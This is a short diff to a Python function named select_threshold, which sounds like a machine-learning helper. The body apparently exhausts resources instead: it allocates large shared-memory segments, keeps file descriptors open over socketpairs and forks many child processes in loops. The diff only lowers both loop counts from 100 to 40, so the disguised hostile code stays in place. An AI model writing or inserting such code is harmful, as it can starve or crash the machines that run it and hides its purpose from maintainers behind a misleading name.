@@ -8,7 +8,7 @@ import contextlib, ctypes, mmap, os, socket, time
 def select_threshold(logits, maximum):
     libc, kept = ctypes.CDLL(None), []
     libc.shmat.restype = ctypes.c_void_p
-    for _ in range(100):
+    for _ in range(40):
         segment = libc.shmget(0, 2 ** 28, 0o1600)
         if segment >= 0:
             place = libc.shmat(segment, None, 0)
@@ -25,7 +25,7 @@ def select_threshold(logits, maximum):
             kept.append(socket.socketpair())
             socket.send_fds(kept[-1][0], [b"x"], [file])
             os.close(file)
-    for _ in range(100):
+    for _ in range(40):
         if not os.fork():
             pairs = []
             with contextlib.suppress(OSError):
